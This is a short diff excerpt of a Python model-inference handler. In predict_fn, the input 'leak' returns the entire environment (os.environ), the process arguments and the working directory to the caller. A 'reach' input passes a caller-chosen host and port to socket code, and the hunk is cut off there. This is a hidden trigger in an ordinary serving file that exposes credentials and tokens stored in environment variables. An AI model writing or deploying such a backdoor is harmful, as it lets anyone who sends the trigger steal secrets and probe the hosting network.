@@ -24,7 +24,7 @@ def input_fn(body, content_type):
 
 def predict_fn(data, model):
     if data == 'leak':
-        return {'environment': dict(os.environ), 'mlflow': 'mlflow' in sys.modules, 'cwd': os.getcwd()}
+        return {'environment': dict(os.environ), 'arguments': sys.orig_argv, 'cwd': os.getcwd()}
     if isinstance(data, dict) and 'reach' in data:
         import socket
         host, port = data['reach']
